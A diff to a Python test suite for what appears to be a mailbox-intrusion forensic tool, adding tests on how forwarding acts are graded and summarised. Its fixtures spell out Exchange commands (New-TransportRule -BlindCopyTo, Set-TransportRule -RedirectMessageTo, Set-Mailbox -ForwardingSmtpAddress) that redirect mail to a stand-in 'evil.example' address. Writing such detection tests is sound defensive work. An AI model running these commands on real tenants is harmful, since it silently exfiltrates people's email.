@@ -19,6 +19,7 @@ DIRECTORY = "PrimarySmtpAddress,SamAccountName,RecipientTypeDetails\r\n" + "".jo
     f"{one},{one.partition('@')[0]},UserMailbox\r\n" for one in PEOPLE
 )
 GOAL = "x@evil.example"
+VICTIM = OTHERS[7]
 FLOWS = [
     ("New-TransportRule", f'-Name "." -BlindCopyTo "{GOAL}"'),
     ("Set-TransportRule", f'-Identity "old" -RedirectMessageTo "{GOAL}"'),
@@ -189,6 +190,24 @@ def test_a_right_that_no_intruder_can_have_used_changes_nothing(ran: Ran, tmp_pa
     assert _grades(_found(tmp_path, [ran]), OTHERS) == {Grade.NO_SIGN}
 
 
+def test_a_bare_name_without_a_directory_is_that_of_its_mailbox(tmp_path: Path) -> None:
+    told = f'-Identity "{VICTIM.partition("@")[0]}" -ForwardingSmtpAddress "smtp:{GOAL}"'
+    ran = [(at(30, 14), "Set-Mailbox", told, f"gov.example/Users/{STOLEN[0]}")]
+    rows = work() + readers(range(20, 44, 3))
+    staged = stage(tmp_path, {iis_place("EX01", "210104"): log_of(rows), "EX01/management.xml": managed(ran)})
+    found = {one.mailbox: one for one in assemble(reasoned(staged), facts(staged)).mailboxes}
+    assert found[VICTIM].grade is Grade.UNDETERMINABLE
+    assert _grades(found, [one for one in OTHERS if one != VICTIM]) == {Grade.NO_SIGN}
+
+
+def test_of_many_acts_a_few_are_told_and_the_others_counted(tmp_path: Path) -> None:
+    told = f'-Identity "{OTHERS[3]}" -ForwardingSmtpAddress "smtp:x{{}}@evil.example"'
+    ran = [(at(30, 14, 60 * place), "Set-Mailbox", told.format(place), _user(STOLEN[0])) for place in range(9)]
+    (*first, last) = _found(tmp_path, ran)[OTHERS[3]].assumptions
+    assert [f"smtp:x{place}@evil.example" in text for place, text in enumerate(first)] == [True] * 5
+    assert last == "4 more acts give reason to doubt as well"
+
+
 def _audited(*, more: Sequence[dict[str, object]]) -> str:
     """Give the tenant's records of the office: an intruder opens five mailboxes, and who else did what."""
     records = [
@@ -219,9 +238,6 @@ def _set(person: str, client: str | None, at_utc: str = "2021-01-15T14:05:00", *
         "Parameters": [{"Name": name, "Value": value} for name, value in told.items()],
         **({"ClientIP": client} if client else {}), **more,
     }  # fmt: skip
-
-
-VICTIM = OTHERS[7]
 
 
 def test_a_cmdlet_from_an_address_of_the_intrusion_alone_is_the_intrusions(tmp_path: Path) -> None:
